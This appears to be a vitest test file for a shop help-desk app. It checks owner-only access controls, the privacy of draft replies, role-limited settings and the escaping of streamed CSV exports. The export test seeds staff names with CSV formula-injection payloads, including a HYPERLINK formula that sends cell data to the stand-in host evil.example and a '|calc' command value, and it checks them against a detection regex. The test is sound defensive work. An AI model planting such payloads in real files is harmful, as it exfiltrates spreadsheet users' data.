import { parse } from "csv-parse/sync";
import pg from "pg";
import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { askByHand } from "#app/features/privacy/ask-by-hand.server.ts";
import { ownerOnly } from "#app/owner-only.server.ts";
import { loader as accessFile } from "#app/routes/app.access-log.ts";
import { startWorld, type TestWorld } from "#tests/setup/start-world.ts";
import { askRoute, listForms, type FormIds } from "./hostile-forms.ts";
import { prepareForms } from "./hostile-shop.ts";

/** What somebody of the staff may not, and what a file that leaves the app may not. */

let world: TestWorld;
let ids: FormIds;
let agent: number;
let owner: number;
let client: pg.Client;
beforeAll(async () => {
  world = await startWorld({ orders: 20 });
  ids = await prepareForms(world);
  const { staff } = world.world.states[0]!;
  agent = staff.findIndex((one) => !one.accountOwner);
  owner = staff.findIndex((one) => one.accountOwner);
  client = new pg.Client(process.env.DATABASE_URL);
  await client.connect();
}, 120_000);
afterAll(async () => {
  await client.end();
  await world.stop();
});

test("case 52: who is not the owner changes nothing that is the owner's, sees nothing of it, and the refusal is logged", async () => {
  const forms = listForms(ids);
  const retention = forms.find(({ file }) => file.includes("retention"))!;
  const secret = forms.find(({ fields }) => fields.intent === "secret")!;
  const privacy = forms.find(({ file }) => file.includes("privacy"))!;
  expect((await askRoute(world, { ...retention, staff: agent })).status).toBe(403);
  expect((await askRoute(world, { ...secret, staff: agent })).status).toBe(403);
  for (const kind of ["data_request", "redact", "shop_export"]) {
    const fields = { ...privacy.fields, kind, confirmation: privacy.fields.email! };
    expect((await askRoute(world, { ...privacy, fields, staff: agent })).data).toMatchObject({ problem: "not_owner" });
  }
  expect((await askRoute(world, { file: "app.access-log.ts", staff: agent })).status).toBe(403);
  expect((await askRoute(world, { file: "app.audit-log.ts", staff: agent })).status).toBe(403);
  expect((await askRoute(world, { file: "app.settings.audit.tsx", staff: agent })).data).toEqual({ isOwner: false });
  expect((await askRoute(world, { file: "app.exports.$id.ts", id: "1", staff: agent })).status).toBe(404);
  expect((await askRoute(world, { file: "app.settings.access.tsx", staff: agent })).data).toEqual({ isOwner: false });
  expect((await askRoute(world, { file: "app.settings.privacy.tsx", staff: agent })).data).toEqual({
    isOwner: false,
    requests: [],
  });
  expect((await client.query("select count(*)::int as n from privacy_request")).rows[0].n).toBe(0);
  expect((await client.query("select count(*)::int as n from mailbox where secret_hash is not null")).rows[0].n).toBe(
    0,
  );

  // The same by the owner is done, so that the above says something.
  expect((await askRoute(world, { ...retention, staff: owner })).data).toMatchObject({ ok: true });
  expect((await askRoute(world, { ...privacy, staff: owner })).data).toMatchObject({ ok: true });

  const desk = await world.staffDesk(0, agent);
  const warn = vi.spyOn(desk.log, "warn");
  await expect(ownerOnly(desk, "try")).rejects.toMatchObject({ status: 403 });
  await askByHand(desk, { kind: "shop_export", email: "", confirmation: "", key: "12345678" });
  expect(warn.mock.calls).toEqual([
    [{ act: "try" }, "refused: only the account owner may"],
    [{ act: "shop_export" }, "refused: only the account owner may"],
  ]);
});

test("case 52: a text that somebody else has begun is not shown, sent or overwritten", async () => {
  const draft = (body: string, staff: number) =>
    askRoute(world, {
      file: "app.tickets.$number.draft.ts",
      id: ids.number,
      fields: { kind: "reply", body, clientKey: `key-${staff}-12345678` },
      staff,
    });
  await draft("The owner's half sentence", owner);
  await draft("The agent's", agent);
  const shown = async (staff: number) =>
    JSON.stringify(
      (await askRoute(world, { file: "app.tickets.$number.tsx", id: ids.number, staff })).data,
      (_, value: unknown) => (typeof value === "bigint" ? String(value) : value),
    );
  expect(await shown(agent)).toContain("The agent's");
  expect(await shown(agent)).not.toContain("half sentence");
  expect(await shown(owner)).toContain("half sentence");
});

test(
  "case 60: no cell of a file is a formula, quotes and line breaks stay in their cell, and many rows are streamed",
  { timeout: 120_000 },
  async () => {
    const shop = world.shops[0]!.shopId;
    const names = [
      `=HYPERLINK("https://evil.example?"&A1,"x")`,
      "+1+1",
      "-2+3",
      "@SUM(A1)",
      "\t=1",
      'a"\r\n=1,"b',
      "|calc",
      "plain",
    ];
    await client.query("delete from access_log where shop_id = $1", [shop]).catch(() => undefined);
    const staff: string[] = [];
    for (const [n, name] of names.entries()) {
      const { rows } = await client.query(
        "insert into staff (shop_id, shopify_user_id, name) values ($1, $2, $3) returning id",
        [shop, 900 + n, name],
      );
      staff.push(String(rows[0].id));
    }
    await client.query(
      `insert into access_log (shop_id, staff_id, subject, subject_id)
     select $1, ($2::bigint[])[1 + n % array_length($2::bigint[], 1)], 'ticket', n::text from generate_series(1, 20000) n`,
      [shop, staff],
    );
    const answer = await accessFile({
      request: world.staffRequest("/app/access-log", { staff: owner }),
      params: {},
      context: {},
    });
    let pieces = 0;
    let text = "";
    const decoder = new TextDecoder();
    for await (const piece of answer.body as unknown as AsyncIterable<Uint8Array>) {
      pieces += 1;
      expect(piece.byteLength).toBeLessThan(1024 * 1024);
      text += decoder.decode(piece, { stream: true });
    }
    expect(pieces).toBeGreaterThanOrEqual(20);
    const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows.length).toBeGreaterThanOrEqual(20_000);
    const formulas = rows.flatMap((row) => Object.values(row)).filter((cell) => /^[\s\0]*[=+\-@\t\r|]/.test(cell));
    expect(formulas).toEqual([]);
    const told = new Set(rows.map((row) => row.staff));
    expect(told).toContain(`'${names[0]}`);
    expect(told).toContain('a"\r\n=1,"b');
    expect(told).toContain("plain");
  },
);

test("who may not change settings changes none that hold for the whole shop, and their own as before", async () => {
  const shared = /app\.settings\.(acknowledgement|blocked|contact|hours|mailboxes|staff|tags)/;
  const forms = listForms(ids).filter(({ file }) => shared.test(file));
  expect(new Set(forms.map(({ file }) => file)).size).toBe(8);
  const { staff } = await world.staffDesk(0, agent);
  await client.query(
    `with plain as (
       insert into role (shop_id, name, abilities) select shop_id, 'Plain', '{refund}' from staff where id = $1
       returning shop_id, id)
     update staff set role_id = plain.id from plain where staff.shop_id = plain.shop_id and staff.id = $1`,
    [staff.id],
  );
  for (const form of forms) expect((await askRoute(world, { ...form, staff: agent })).status, form.file).toBe(403);
  const own = listForms(ids).find(({ file }) => file.includes("settings.you"))!;
  expect((await askRoute(world, { ...own, staff: agent })).data).toMatchObject({ ok: true });
  await client.query("update staff set role_id = null where id = $1", [staff.id]);
});
